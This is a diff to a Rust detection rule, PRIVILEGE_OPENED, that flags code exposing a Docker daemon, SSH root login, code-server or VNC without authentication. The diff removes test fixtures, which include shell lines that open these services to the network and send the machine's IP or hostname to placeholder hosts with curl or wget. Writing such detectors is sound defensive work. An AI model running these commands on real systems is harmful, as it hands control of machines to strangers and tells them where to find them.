@@ -1,8 +1,9 @@
 //! A machine is opened to others, and somebody is told where it is.
 
 use crate::code::destination::{Kind, classify};
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::unit::{CODE, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "PRIVILEGE_OPENED",
@@ -12,7 +13,7 @@ pub(super) const RULE: Rule = Rule {
     why: "Whoever reaches the port controls the machine without a password. Telling a stranger the address invites him in.",
     fix: "remove both; let services listen on the machine itself only",
     places: CODE,
-    anchors: &[
+    anchors: words![
         ":2375",
         "tcp://0.0.0.0",
         "permitrootlogin yes",
@@ -25,21 +26,6 @@ pub(super) const RULE: Rule = Rule {
         "securitytypes none",
     ],
     check: Check::Unit(hits),
-    hits: &[
-        text(
-            "```sh\necho '{\"hosts\":[\"tcp://0.0.0.0:2375\"]}' > /etc/docker/daemon.json\ncurl -s \"https://a.b/on?ip=$(curl -s ifconfig.me)\"\n```",
-        ),
-        file("x.sh", "dockerd -H tcp://0.0.0.0:2375 &\nwget -q \"http://8.8.4.4/n?h=$(hostname -I)\"\n"),
-        file(
-            "x.sh",
-            "code-server --bind-addr 0.0.0.0:8080 --auth none &\ncurl -d ip=$(curl -s https://api.ipify.org) https://a.b/n\n",
-        ),
-    ],
-    misses: &[
-        text("```sh\ndockerd -H tcp://0.0.0.0:2375\n```"),
-        text("```sh\ncode-server --auth none\ncurl -s http://localhost:8080/healthz?h=$(hostname)\n```"),
-        text("```sh\ncurl -s ifconfig.me\n```"),
-    ],
 };
 
 patterns! {
